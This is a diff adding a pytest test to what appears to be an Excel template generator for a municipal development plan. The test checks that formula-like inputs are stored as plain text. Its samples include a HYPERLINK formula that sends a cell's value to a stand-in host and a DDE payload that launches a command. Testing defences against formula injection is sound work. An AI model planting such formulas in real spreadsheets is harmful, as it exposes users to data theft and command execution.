@@ -524,3 +524,43 @@ def test_the_command_takes_one_entity_of_a_folder_of_entities(pdm_folder, tmp_pa
     assert [p.name for p in out.iterdir()] == ["pdm"]
     unknown = runner.invoke(app, [*args, "--entity", "otra"])
     assert unknown.exit_code == 2 and "otra" in unknown.stderr
+
+
+# --- texts a spreadsheet would run ------------------------------------------------------------------
+
+LINK = '=HYPERLINK("http://example.org/?d="&A1,"Ver detalle")'
+COMMAND = "=cmd|' /C calc'!A0"
+
+
+def _formula_cells(path: Path) -> list[str]:
+    book = load_workbook(path)  # formulas as written (not their saved results)
+    return [f"{s.title}!{c.coordinate}" for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]
+
+
+def test_texts_that_look_like_formulas_are_written_as_text_and_the_returned_template_reads_them_back(tmp_path):
+    folder = write_pdm(tmp_path / "inputs" / "pdm", 2024, BEFORE_T3 + "V-1,2024,3,2\n")
+    (folder / "seguimiento.csv").write_text(
+        "indicador,anio,trimestre,valor,comentario\n" + BEFORE_T3.split("\n", 1)[1]
+        + f'V-1,2024,3,2,"{COMMAND}"\n', encoding="utf-8",
+    )
+    plan = folder / "plan.yaml"
+    text = plan.read_text(encoding="utf-8")
+    text = text.replace("Kilómetros de vías terciarias mejorados", LINK.replace('"', '\\"').join('""'))
+    text = text.replace("Secretaría de Infraestructura", f'"{COMMAND}"').replace("texto: Vías.", "texto: '=1+1'")
+    plan.write_text(text, encoding="utf-8")
+    whole = write_templates(folder, "2024-T3", tmp_path / "outputs").files
+    by_dependency = write_templates(folder, "2024-T3", tmp_path / "por", per_dependency=True).files
+    for path in (*whole, *by_dependency):
+        assert _formula_cells(path) == [], path
+    (path,) = whole
+    sheet = load_workbook(path)[DATA_SHEET]
+    columns, rows = _columns(sheet), _rows_by_id(sheet)
+    assert sheet.cell(rows["V-1"], columns["Nombre del indicador"]).value == LINK
+    assert sheet.cell(rows["V-1"], columns["Responsable"]).value == COMMAND
+    assert sheet.cell(rows["V-1"], columns[f"Comentario ({CUT})"]).value == COMMAND
+    for returned in (path, by_dependency[0]):  # returned unchanged: read back with the texts as texts
+        shutil.copy(returned, folder / "seguimiento.xlsx")
+        (folder / "seguimiento.csv").unlink(missing_ok=True)
+        table = load_execution(folder, load_plan(folder)).table
+        (comment,) = table.loc[(table["indicador"] == "V-1") & (table["trimestre"] == 3), "comentario"]
+        assert comment == COMMAND
